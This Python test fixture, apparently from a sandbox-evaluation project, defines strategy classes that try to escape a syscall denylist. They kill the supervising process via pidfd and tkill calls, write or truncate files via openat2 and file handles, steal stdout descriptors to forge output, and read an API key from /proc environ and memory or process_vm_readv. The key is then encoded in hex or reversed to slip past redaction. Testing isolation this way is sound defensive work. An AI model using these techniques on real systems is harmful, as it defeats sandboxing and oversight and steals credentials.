"""Strategies written to escape a syscall *denylist* (issue 26); never imported by the tests.

The tests copy this file with MARKER_DIR and KEY replaced.  The run's pid, when
a test knows it, is in MARKER_DIR/run_pid; the strategies also look for it
themselves (parent pid, /proc).  Every class tries one way out and raises if it
could not, so that it is flagged; what it gets out it makes visible in a form
redaction would not catch (hex, reversed), so a test can tell isolation failing
from redaction hiding it.  Families: signals to the run, file system calls
beyond open/openat, descriptor theft, reading another process's environment or
memory, printing the key.
"""

import base64
import ctypes
import mmap
import os
import signal

from mesa_dilemmas.dilemmas.binary.strategies import C, Strategy

MARKER_DIR = "@MARKER_DIR@"
KEY = "@KEY@"
MARKER = os.path.join(MARKER_DIR, "marker")
VICTIM = os.path.join(MARKER_DIR, "victim.txt")
AT_FDCWD = -100
# x86_64 numbers (the tests run there)
SYS = {
    "creat": 85,
    "rt_sigqueueinfo": 129,
    "tkill": 200,
    "tgkill": 234,
    "name_to_handle_at": 303,
    "open_by_handle_at": 304,
    "process_vm_readv": 310,
    "renameat2": 316,
    "pidfd_send_signal": 424,
    "pidfd_open": 434,
    "openat2": 437,
    "pidfd_getfd": 438,
}
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def syscall(name, *args):
    result = _libc.syscall(SYS[name], *args)
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, f"{name}: {os.strerror(err)}")
    return result


def targets():
    """Every pid that could be the run: the test's note, the parent, /proc entries."""
    found = set()
    try:
        with open(os.path.join(MARKER_DIR, "run_pid")) as f:
            found.add(int(f.read().strip()))
    except (OSError, ValueError):
        pass
    found.add(os.getppid())
    try:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    with open(f"/proc/{entry}/cmdline", "rb") as f:
                        cmdline = f.read()
                    if b"mesa" in cmdline or b"pytest" in cmdline:
                        found.add(int(entry))
                except OSError:
                    continue
    except OSError:
        pass
    found.discard(0)
    return sorted(found) or [1]


def each_target(attack):
    """Run ``attack(pid)`` on every target; raise the last error if none worked."""
    error = None
    worked = False
    for pid in targets():
        try:
            attack(pid)
            worked = True
        except OSError as exc:
            error = exc
    if not worked:
        raise error or OSError("no target")


def leak(value):
    """Make ``value`` visible in the run's outputs, in forms redaction does not know."""
    if isinstance(value, bytes):
        value = value.decode(errors="replace")
    raise RuntimeError(f"LEAK hex={value.encode().hex()} reversed={value[::-1]}")


# -- signals to the run ------------------------------------------------------------------------


class PidfdSendSignal(Strategy):
    def act(self, h):
        def attack(pid):
            fd = syscall("pidfd_open", pid, 0)
            syscall("pidfd_send_signal", fd, signal.SIGKILL, None, 0)

        each_target(attack)
        return C


class RtSigqueueinfo(Strategy):
    def act(self, h):
        info = (ctypes.c_int * 32)()
        info[0], info[2] = signal.SIGKILL, -1  # si_signo, si_code = SI_QUEUE
        each_target(lambda pid: syscall("rt_sigqueueinfo", pid, signal.SIGKILL, info))
        return C


class Tkill(Strategy):
    def act(self, h):
        each_target(lambda pid: syscall("tkill", pid, signal.SIGKILL))
        return C


class Tgkill(Strategy):
    def act(self, h):
        each_target(lambda pid: syscall("tgkill", pid, pid, signal.SIGKILL))
        return C


class KillRun(Strategy):
    def act(self, h):
        each_target(lambda pid: os.kill(pid, signal.SIGKILL))
        return C


# -- the file system beyond open/openat --------------------------------------------------------


class OpenHow(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]


class Openat2Create(Strategy):
    def act(self, h):
        how = OpenHow(os.O_CREAT | os.O_WRONLY, 0o644, 0)
        fd = syscall("openat2", AT_FDCWD, MARKER.encode(), ctypes.byref(how), 24)
        os.write(fd, b"pwned")
        return C


class Openat2MmapWrite(Strategy):
    def act(self, h):
        how = OpenHow(os.O_RDWR, 0, 0)
        fd = syscall("openat2", AT_FDCWD, VICTIM.encode(), ctypes.byref(how), 24)
        page = mmap.mmap(fd, 0)
        page[:5] = b"pwned"
        page.flush()
        return C


class FileHandle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]


def victim_handle():
    handle, mount_id = FileHandle(128, 0), ctypes.c_int()
    syscall(
        "name_to_handle_at",
        AT_FDCWD,
        VICTIM.encode(),
        ctypes.byref(handle),
        ctypes.byref(mount_id),
        0,
    )
    return handle


class NameToHandleAt(Strategy):
    def act(self, h):
        victim_handle()
        return C


class OpenByHandleTruncate(Strategy):
    def act(self, h):
        try:
            handle = victim_handle()
        except OSError:  # guess one: ext4's handle is (inode, generation)
            handle = FileHandle(8, 1)
            ino = os.stat(VICTIM).st_ino
            handle.handle[:4] = list(ino.to_bytes(4, "little"))
        mount_fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        syscall("open_by_handle_at", mount_fd, ctypes.byref(handle), os.O_WRONLY | os.O_TRUNC)
        return C


class Creat(Strategy):
    def act(self, h):
        os.write(syscall("creat", MARKER.encode(), 0o644), b"pwned")
        return C


class Truncate(Strategy):
    def act(self, h):
        os.truncate(VICTIM, 0)
        return C


class Renameat2(Strategy):
    def act(self, h):
        syscall("renameat2", AT_FDCWD, VICTIM.encode(), AT_FDCWD, MARKER.encode(), 0)
        return C


class Rename(Strategy):
    def act(self, h):
        os.rename(VICTIM, MARKER)
        return C


class Link(Strategy):
    def act(self, h):
        os.link(VICTIM, MARKER)
        return C


class Symlink(Strategy):
    def act(self, h):
        os.symlink(VICTIM, MARKER)
        return C


# -- descriptor theft: forging the run's output --------------------------------------------------


class PidfdGetfd(Strategy):
    def act(self, h):
        def attack(pid):
            pidfd = syscall("pidfd_open", pid, 0)
            for target_fd in (1, 2):
                fd = syscall("pidfd_getfd", pidfd, target_fd, 0)
                os.write(fd, b"FORGED-OUTPUT\n")

        each_target(attack)
        return C


class ProcFdWrite(Strategy):
    def act(self, h):
        def attack(pid):
            with open(f"/proc/{pid}/fd/1", "w") as f:
                f.write("FORGED-OUTPUT\n")

        each_target(attack)
        return C


# -- reading the run's environment and memory ----------------------------------------------------


def find_key(data):
    start = data.find(b"API_KEY=")
    if start >= 0:
        return data[start + 8 :].split(b"\0")[0]
    start = data.find(KEY[:8].encode())
    return data[start : start + len(KEY)] if start >= 0 else None


class ProcEnviron(Strategy):
    def act(self, h):
        def attack(pid):
            with open(f"/proc/{pid}/environ", "rb") as f:
                key = find_key(f.read())
            if key:
                leak(key)

        each_target(attack)
        return C


def regions(pid):
    with open(f"/proc/{pid}/maps") as f:
        for line in f:
            span, perms = line.split()[:2]
            if perms.startswith("rw"):
                start, end = (int(x, 16) for x in span.split("-"))
                if end - start <= 64 << 20:
                    yield start, end


class ProcMem(Strategy):
    def act(self, h):
        def attack(pid):
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            for start, end in regions(pid):
                try:
                    key = find_key(os.pread(fd, end - start, start))
                except OSError:
                    continue
                if key:
                    leak(key)

        each_target(attack)
        return C


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class ProcessVmReadv(Strategy):
    def act(self, h):
        def attack(pid):
            try:
                spans = list(regions(pid))
            except OSError:  # no /proc of it: guess from our own layout
                spans = list(regions("self"))
            for start, end in spans:
                buf = ctypes.create_string_buffer(end - start)
                local, remote = IoVec(ctypes.addressof(buf), end - start), IoVec(start, end - start)
                syscall("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
                key = find_key(buf.raw)
                if key:
                    leak(key)

        each_target(attack)
        return C


# -- printing the key (code that knows it) -------------------------------------------------------


class PrintKey(Strategy):
    def act(self, h):
        print(f"the key is {KEY}")
        return f"C {KEY}"


class RaiseKey(Strategy):
    def act(self, h):
        raise ValueError(f"authentication with {KEY} failed")


class AnswerKey(Strategy):
    def act(self, h):
        return KEY


class KeyPrefixAndBase64(Strategy):
    def act(self, h):
        encoded = base64.b64encode(f"user:{KEY}".encode()).decode()
        raise ValueError(f"401: key {KEY[:12]}... rejected; Authorization: Basic {encoded}")


class KeyInDescription(Strategy):
    """Cooperates; its description carries the key: @KEY@."""

    def act(self, h):
        return "maybe"


# -- the control ---------------------------------------------------------------------------------


class Control(Strategy):
    """Behaves: a run with only escapers would have nothing left to analyse."""

    def act(self, h):
        return C
